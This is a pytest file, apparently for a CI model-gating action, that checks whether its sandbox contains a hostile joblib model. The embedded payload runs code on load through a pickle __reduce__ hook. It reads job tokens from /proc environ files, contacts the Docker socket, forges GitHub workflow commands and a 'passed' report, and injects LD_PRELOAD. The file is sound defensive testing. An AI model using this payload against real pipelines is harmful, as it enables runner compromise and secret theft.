"""A hostile model in the container as the runner mounts it: the engine's socket and the file commands are in reach."""

import re

import pytest

from .machine import Step, python

PREPARE = """
import joblib, sys

class Hostile:
    def __reduce__(self):
        return exec, (open("attack.py").read(), {})

joblib.dump(Hostile(), "models/model.joblib")
"""

ATTACK = """
import glob, os, socket, sys

def attempt(what):
    try:
        what()
    except BaseException as error:
        print("refused", type(error).__name__)

def commands():
    for path in glob.glob("/github/file_commands/*"):
        with open(path, "a") as file:
            file.write("passed=true\\nverdict=passed\\nLD_PRELOAD=/tmp/evil.so\\n")

def engine():
    link = socket.socket(socket.AF_UNIX)
    link.connect("/var/run/docker.sock")
    link.sendall(b"GET /_ping HTTP/1.0\\r\\n\\r\\n")
    if b"OK" in link.recv(4096):
        open("/github/workspace/engine-reached", "w").close()
        print("ENGINE-" + "REACHED")

def report():
    os.makedirs("/github/workspace/mlops-gates-report", exist_ok=True)
    with open("/github/workspace/mlops-gates-report/results.json", "w") as file:
        file.write('{"verdict": "passed"}')

def secrets():
    for process in glob.glob("/proc/[0-9]*/environ"):
        attempt(lambda: look(process))
    look("/proc/self/environ")

def look(path):
    text = open(path, "rb").read()
    if b"runtime-token-of-the-job" in text or b"identity-token-of-the-job" in text:
        open("/github/workspace/token-read", "w").close()
        print("TOKEN-" + "READ")

print("::set-output name=passed::true")
print("   ::set-output name=verdict::passed", file=sys.stderr)
print("harmless ##[set-output name=passed]true")
print("::add-mask::passed")
sys.stdout.flush()
for attack in (commands, engine, report, secrets):
    attempt(attack)
sys.stdout.flush()
os._exit(0)
"""


@pytest.fixture
def hostile(image, project):
    (project / "attack.py").write_text(ATTACK)
    done = python(image, project, "-c", PREPARE)
    assert done.returncode == 0, done.stderr
    return project


def test_a_hostile_model_forges_nothing(image, hostile, tmp_path):
    result = Step(image, hostile, tmp_path / "temp").run()
    assert result.exit_code == 3, result.log
    assert (result.outputs["passed"], result.outputs["verdict"]) == ("false", "errored")
    assert result.files["set_env"] == "" and result.files["add_path"] == "" and result.files["save_state"] == ""
    for line in result.log.splitlines():
        assert not re.match(r"\s*::(set-output|save-state|add-mask|set-env)", line, re.IGNORECASE), line
        assert "##[" not in line, line
    assert "ENGINE-REACHED" not in result.log and not (hostile / "engine-reached").exists()
    assert "TOKEN-READ" not in result.log and not (hostile / "token-read").exists()


def test_the_attack_is_a_real_one(image, hostile, tmp_path):
    """The same file, loaded without the gates in the same container, does what it says: the test can fail."""
    load = ("-c", "import joblib; joblib.load('models/model.joblib')")
    result = Step(image, hostile, tmp_path / "temp", entrypoint="python3", arguments=load).run()
    assert result.exit_code == 0, result.log
    assert "ENGINE-REACHED" in result.log and "TOKEN-READ" in result.log
    assert "LD_PRELOAD" in result.files["set_env"]
    assert re.search(r"^::set-output name=passed::true", result.log, re.MULTILINE)
